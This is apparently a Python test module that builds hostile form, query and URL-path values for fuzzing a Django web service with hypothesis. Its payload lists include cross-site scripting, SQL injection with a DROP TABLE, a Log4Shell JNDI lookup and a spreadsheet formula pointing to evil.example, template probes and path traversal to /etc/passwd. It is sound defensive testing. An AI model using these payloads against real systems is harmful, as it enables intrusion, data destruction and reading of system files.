"""Hostile values for the fuzz tests, as hypothesis strategies.

A value is what a browser, a script or an attacker may put in one field: control
characters (NUL first), bidi marks and overrides, zero-width characters, overlong strings,
numbers a form does not expect (huge, negative, ``1e309``, ``NaN``), impossible dates,
template, HTML and SQL syntax, path traversal, Arabic and emoji, blanks. A field may also be
missing (``MISSING``) or sent twice (a list: repeated keys).

``form_data(fields)`` draws a whole form: each field its valid value or a hostile one, so
that the service behind a form is reached with hostile values in the fields that pass.
``body(fields)`` also draws how it is sent: multipart (the test client's default),
urlencoded, raw bytes that are not UTF-8 (the lone surrogates a ``str`` cannot carry, in
their UTF-8-invalid byte forms), or a JSON document of wrong types.
"""

import json
import os
from urllib.parse import quote

from hypothesis import HealthCheck, settings
from hypothesis import strategies as st

# A run's size: FUZZ_SCALE=10 sends ten times the examples (a longer hunt, not for CI).
SCALE = float(os.environ.get("FUZZ_SCALE", "1"))


def fuzz_settings(examples):
    """Hypothesis' settings of one fuzzed form: ``examples`` requests (times FUZZ_SCALE)."""
    return settings(
        max_examples=max(1, int(examples * SCALE)),
        deadline=None,
        suppress_health_check=[
            HealthCheck.function_scoped_fixture,
            HealthCheck.too_slow,
            HealthCheck.data_too_large,
        ],
    )


class _Missing:
    def __repr__(self):
        return "MISSING"


MISSING = _Missing()  # the field is not sent at all

CONTROLS = ["\x00", "\x01", "\x07", "\x08", "\x0b", "\x0c", "\x1b", "\x1f", "\x7f", "\x85"]
BREAKS = ["\r", "\n", "\r\n", "\t", "\u2028", "\u2029"]
# Bidi marks, embeddings, overrides and isolates; the Arabic letter mark.
BIDI = ["\u200e", "\u200f", "\u202a", "\u202b", "\u202c", "\u202d", "\u202e", "\u2066"]
BIDI += ["\u2067", "\u2068", "\u2069", "\u061c"]
ZERO_WIDTH = ["\u200b", "\u200c", "\u200d", "\u2060", "\ufeff", "\u00ad", "\u034f"]
BLANKS = ["", " ", "   ", "\u00a0", "\u3000", "\t\n", "\u2028", "\u200b", "\u202f"]
SYNTAX = [
    "{{ 7|add:7 }}",
    "{% debug %}",
    "{% load static %}{% static '../../etc/passwd' %}",
    "{{",
    "{%",
    "%}",
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "javascript:alert(1)",
    "' OR '1'='1",
    "1; DROP TABLE members_action; --",
    '"',
    "'",
    "\\",
    "%s%s%s%n",
    "%(name)s",
    "{0}",
    "${jndi:ldap://evil.example/a}",
    '=HYPERLINK("https://evil.example","x")',
    "@SUM(1+1)",
    "-1+1",
    "*",
    "%",
    "_",
    "?",
    "&",
    "#",
    "+",
    "()",
    "[]",
    "{}",
    "AND",
    "OR NOT",
    '"unbalanced',
    "a:b",
    "NEAR(a b)",
]
TRAVERSAL = [
    "../",
    "../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "%2e%2e%2f",
    "%252e%252e%252f",
    "/etc/passwd",
    "C:\\boot.ini",
    "....//",
    "%00",
    "%ff",
    ".htaccess",
    "//evil.example",
]
WORLD = [
    "مرحبا بكم في لقاء الصحة",
    "صحة",
    "١٢٣٤",
    "😀",
    "👍🏽",
    "👨‍👩‍👧‍👦",
    "🇫🇷",
    "e\u0301",  # a combining accent
    "ß",
    "İ",
    "ǅ",
    "ﷺ",
    "\U0001d56c",  # a mathematical letter
    "Z̴̡̛̝̫a̸l̷g̶o̸",
    "中文",
    "Ελληνικά",
]
NUMBERS = [
    "0",
    "-0",
    "-1",
    "1",
    "2",
    "1.5",
    "1,5",
    "-1.5",
    "1e3",
    "1e309",
    "-1e309",
    "1e-309",
    "NaN",
    "nan",
    "inf",
    "-inf",
    "Infinity",
    "99999999999999999999",
    str(2**31),
    str(2**63),
    str(-(2**63) - 1),
    "9" * 400,
    "9" * 5000,
    "0x10",
    "0b1",
    "1_000",
    " 12 ",
    "+5",
    "--1",
    "١٢",
    "²",
    "¼",
    "1 234,50",
    "1.234",
    "€12",
    "12 EUR",
    "\u221212",
]
DATES = [
    "2026-02-30",
    "2026-02-29",
    "0000-00-00",
    "99999-01-01",
    "2026-13-01",
    "2026-00-10",
    "31/02/2026",
    "1900-01-01",
    "0001-01-01",
    "9999-12-31",
    "-2026-01-01",
    "2026-1-1",
    "2026-01",
    "2026",
    "00/00/0000",
    "2026-01-01T25:61:61",
    "2026-03-29 02:30",  # the hour that does not exist in Paris
    "2026-10-25 02:30",  # the hour that happens twice in Paris
    "1970-01-01 00:00",
    "12:30",
    "25:00",
]
BOOLEANS = ["on", "off", "true", "false", "1", "0", "yes", "", "None", "null"]


class Overlong(str):
    """A long text that a failing example prints short."""

    def __repr__(self):
        return f"{self[:1]!r} * {len(self)}"


overlong = st.sampled_from(
    [Overlong(char * size) for char, size in (("a", 10_001), ("é", 10_001), ("\u202e", 5_000))]
    + [Overlong("x" * 1_000_000)]
)

hostile_char = st.sampled_from(CONTROLS + BREAKS + BIDI + ZERO_WIDTH)


def _surround(word, char):
    return char + word + char


atoms = st.sampled_from(BLANKS + SYNTAX + TRAVERSAL + WORLD + NUMBERS + DATES + BOOLEANS)
# Any text hypothesis draws (no surrogates: a str with one cannot be sent as UTF-8).
free_text = st.text(max_size=60)
garnished = st.builds(
    lambda word, char, where: (
        char + word if where == 0 else word + char if where == 1 else _surround(word, char)
    ),
    st.one_of(atoms, st.sampled_from(["Amina", "Fives", "2026-03-01", "12"])),
    hostile_char,
    st.integers(0, 2),
)

# Hostile, but within the lengths forms accept.
short_hostile_text = st.one_of(atoms, garnished, hostile_char, free_text)
hostile_text = st.one_of(short_hostile_text, overlong)


def hostile_value(*valid):
    """What a hostile client sends in a field: a hostile text, nothing (the field missing),
    or the field repeated (a list where a scalar is expected)."""
    single = st.one_of(st.sampled_from(valid), hostile_text) if valid else hostile_text
    return st.one_of(hostile_text, st.just(MISSING), st.lists(single, min_size=2, max_size=3))


def value_of(*valid):
    """A field's value: one of its ``valid`` values (two times in three) or a hostile one
    (``hostile_value``). Not ``one_of``: hypothesis would flatten the hostile strategies'
    many branches beside the valid one, and seldom draw it."""
    return st.sampled_from([True, True, False]).flatmap(
        lambda ok: st.sampled_from(valid) if ok else hostile_value(*valid)
    )


@st.composite
def form_data(draw, fields):
    """``fields``: ``{name: tuple of valid values, or a strategy of them}`` → a dict of what
    is sent (``MISSING`` fields dropped). Most forms drawn are valid but for one field or a few, so
    that the hostile values reach the services behind the forms; some are all valid, some
    all hostile."""
    names = list(fields)
    mode = draw(st.sampled_from(["one", "one", "few", "valid", "all"]))
    if mode == "valid":
        hostile = set()
    elif mode == "one":
        hostile = {draw(st.sampled_from(names))}
    elif mode == "few":
        hostile = set(draw(st.lists(st.sampled_from(names), min_size=1, max_size=3)))
    else:
        hostile = set(names)
    data = {}
    for name in names:
        spec = fields[name]
        drawn = isinstance(spec, st.SearchStrategy)  # valid values drawn by a strategy
        if name in hostile or (not drawn and not spec):
            value = draw(hostile_value() if drawn else hostile_value(*spec))
        else:
            value = draw(spec if drawn else st.sampled_from(spec))
        if value is not MISSING:
            data[name] = value
    return data


# Bytes that are not UTF-8: lone surrogates' UTF-8 forms, overlong encodings, stray bytes.
INVALID_UTF8 = [b"\xed\xa0\x80", b"\xed\xbf\xbf", b"\xc0\xaf", b"\xff", b"\xfe\xff", b"\x80"]
INVALID_UTF8 += [b"\xe2\x82", b"\xf4\x90\x80\x80"]


def _raw_urlencoded(data, bad, percent):
    """A urlencoded body where each value carries invalid bytes (percent-encoded or not)."""
    parts = []
    for name, value in data.items():
        values = value if isinstance(value, list) else [value]
        for item in values:
            encoded = quote(str(item), safe="").encode()
            junk = "".join(f"%{byte:02X}" for byte in bad).encode() if percent else bad
            parts.append(quote(name).encode() + b"=" + encoded + junk)
    return b"&".join(parts) or b"=" + bad


json_junk = st.recursive(
    st.one_of(
        st.none(),
        st.booleans(),
        st.integers(min_value=-(2**70), max_value=2**70),
        st.floats(allow_nan=False, allow_infinity=False),
        short_hostile_text,
    ),
    lambda children: st.one_of(
        st.lists(children, max_size=3), st.dictionaries(st.text(max_size=5), children, max_size=3)
    ),
    max_leaves=6,
)


@st.composite
def body(draw, fields):
    """``(kind, payload)``: how a form is sent. ``kind`` is ``"multipart"`` or
    ``"urlencoded"`` (``payload`` a dict), ``"raw"`` (urlencoded bytes that are not UTF-8)
    or ``"json"`` (a JSON document: the form's fields with wrong types, or anything)."""
    kind = draw(st.sampled_from(["multipart"] * 4 + ["urlencoded"] * 2 + ["raw", "json"]))
    data = draw(form_data(fields))
    if kind == "raw":
        bad = draw(st.sampled_from(INVALID_UTF8))
        return kind, _raw_urlencoded(data, bad, draw(st.booleans()))
    if kind == "json":
        document = draw(
            st.one_of(
                st.fixed_dictionaries(dict.fromkeys(fields, json_junk)),
                json_junk,
            )
        )
        return kind, json.dumps(document)
    return kind, data


@st.composite
def query(draw, fields):
    """GET parameters: some of ``fields`` (a link carries a few filters, not all of them),
    drawn as ``form_data``."""
    names = draw(st.lists(st.sampled_from(list(fields)), unique=True, max_size=len(fields)))
    return draw(form_data({name: fields[name] for name in names})) if names else {}


# Ids in URL paths: the converters' edge (0, huge, negative), encodings, traversal.
PATH_IDS = [
    "0",
    "-1",
    "00001",
    "99999999999999999999",
    str(2**63),
    str(2**31),
    "9" * 400,
    "%00",
    "%2e%2e",
    "../",
    "..%2f",
    "1%00",
    "1.0",
    "1e3",
    "\u0661",  # an Arabic-Indic digit
    "²",
    "%ff",
    "%ed%a0%80",
    "a",
    "",
    "%20",
    "1/..",
    "\u202e1",
]
path_id = st.one_of(st.sampled_from(PATH_IDS), st.integers(min_value=0, max_value=10**6).map(str))
